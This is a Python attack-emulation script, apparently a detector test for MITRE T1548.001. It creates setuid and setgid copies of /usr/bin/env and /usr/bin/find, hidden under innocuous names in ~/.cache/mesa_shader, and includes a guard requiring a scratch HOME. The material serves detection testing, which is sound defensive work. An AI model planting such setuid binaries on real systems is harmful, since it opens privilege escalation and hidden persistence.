# technique: T1548.001
"""Abuse Elevation Control Mechanism: Setuid and Setgid (T1548.001)
through system tools: `install -m 4755` and `chmod u+s,g+s`.

Python copies nothing itself: `install -m 4755 /usr/bin/env DEST` makes
a setuid copy of env (env can exec a shell with kept privileges), and
`chmod u+s,g+s` sets both bits on a second copy made with `cp`. Only the
child command lines carry the mode. Everything stays under HOME.

A good detector raises a high alert: a child process sets setuid/setgid
bits (install -m 4xxx, chmod u+s).
"""
import os as _os, pwd as _pwd, sys as _sys  # noqa: E401 (safety guard, not part of the attack)
if _os.path.realpath(_os.path.expanduser("~")) == _os.path.realpath(_pwd.getpwuid(_os.getuid()).pw_dir):
    _sys.exit("this attack writes under HOME: run it with HOME set to a scratch directory")
import os
import subprocess

d = os.path.join(os.path.expanduser("~"), ".cache", "mesa_shader")
os.makedirs(d, exist_ok=True)
subprocess.run(["install", "-m", "4755", "/usr/bin/env", os.path.join(d, "index")], timeout=5)
subprocess.run(["cp", "/usr/bin/find", os.path.join(d, "marker")], timeout=5)
subprocess.run(["chmod", "u+s,g+s", os.path.join(d, "marker")], timeout=5)
for n in ("index", "marker"):
    p = os.path.join(d, n)
    if os.path.exists(p):
        print(n, oct(os.stat(p).st_mode))
